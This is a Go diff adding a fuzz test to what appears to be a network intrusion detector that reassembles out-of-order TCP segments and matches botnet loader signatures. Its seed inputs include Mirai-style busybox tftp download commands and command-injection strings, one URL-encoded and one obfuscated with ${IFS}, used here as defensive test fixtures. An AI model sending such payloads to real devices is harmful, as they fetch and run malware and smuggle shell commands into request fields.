@@ -637,3 +637,68 @@ func TestStreamReordered(t *testing.T) {
 		t.Errorf("%d gaps counted", st.StreamGaps)
 	}
 }
+
+// FuzzStreamSegments: a payload cut into segments delivered in any order,
+// with repeats (retransmissions) and omissions (losses), never panics and
+// keeps every stream within its bounds: the carry at most two tails and
+// only while nothing is held, the cursor inside the carried bytes. And a
+// loader line cut anywhere into segments sent in order is found exactly
+// as the whole line is.
+func FuzzStreamSegments(f *testing.F) {
+	f.Add([]byte("/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9\r\n"), []byte{10, 3, 200, 7, 1, 1, 0, 2})
+	f.Add([]byte("cmd=busybox%20tftp%20-g%20-r%20mirai.arm7%2010.0.0.9%3Bsh"), []byte{1, 0, 255, 9, 3, 3, 2})
+	f.Add([]byte("x=`cd${IFS}/tmp;tftp${IFS}-r${IFS}ukloltftp2.sh${IFS}-g${IFS}1`"), []byte{40, 2, 1, 0})
+	set := signatures.Default()
+	f.Fuzz(func(t *testing.T, payload, plan []byte) {
+		if len(payload) == 0 || len(plan) < 2 || len(payload) > 4096 {
+			return
+		}
+		port := []uint16{23, 80, 8080, 4444}[plan[0]%4]
+		// Cut points from the plan's odd bytes, segments in order.
+		var segs []tseg
+		for i, k := 1, 0; k < len(payload); i += 2 {
+			size := 1 + int(plan[i%len(plan)])%97
+			segs = append(segs, tseg{sport: 4000, dport: port, seq: 1000 + uint32(k), payload: string(payload[k:min(k+size, len(payload))])})
+			k += size
+		}
+		at := baseTime
+		check := func(m *Matcher) {
+			s := m.streams
+			if s == nil {
+				return
+			}
+			for i := range s.e {
+				if e := &s.e[i]; e.used && (int(e.n) > 2*s.tail || e.cur.Open < 0 || e.cur.Open > int(e.n) ||
+					int(e.n) > s.tail && (e.heldN > 0 || e.headN > 0) || int(e.heldN) > s.tail || int(e.headN) > s.tail) {
+					t.Fatalf("stream %d: %d carried, open at %d, %d held, head %d", i, e.n, e.cur.Open, e.heldN, e.headN)
+				}
+			}
+		}
+		// Any order, repeats and losses, from the plan's even bytes.
+		m := NewMatcher(StaticSet{set}, evidencetest.Discard{}, Options{Streams: 16, StreamTail: 64})
+		for i := 0; i < len(plan); i += 2 {
+			s := segs[int(plan[i])%len(segs)]
+			at = at.Add(time.Duration(plan[(i+1)%len(plan)]) * time.Second)
+			m.Packet(layers.LinkTypeEthernet, tcpSeg(t, infected, victim, s), Meta{Time: at})
+			check(m)
+		}
+		m.flushStreams("fuzz")
+
+		// A loader line, cut by the same plan, in order.
+		l := loaderLines[int(plan[1])%len(loaderLines)]
+		var whole, split evidencetest.Recorder
+		NewMatcher(StaticSet{set}, &whole, Options{}).Packet(layers.LinkTypeEthernet,
+			tcpSeg(t, infected, victim, tseg{sport: 4001, dport: l.port, seq: 1, payload: l.line}), Meta{Time: baseTime})
+		sm := NewMatcher(StaticSet{set}, &split, Options{})
+		for i, k := 0, 0; k < len(l.line); i++ {
+			size := 1 + int(plan[i%len(plan)])%97
+			sm.Packet(layers.LinkTypeEthernet, tcpSeg(t, infected, victim, tseg{sport: 4001, dport: l.port, seq: 1 + uint32(k),
+				payload: l.line[k:min(k+size, len(l.line))]}), Meta{Time: baseTime})
+			k += size
+		}
+		sm.flushStreams("")
+		if a, b := found(whole.Events(), 4001), found(split.Events(), 4001); !slices.Equal(a, b) {
+			t.Fatalf("line %q cut by %v: %v, whole %v", l.line, plan, b, a)
+		}
+	})
+}
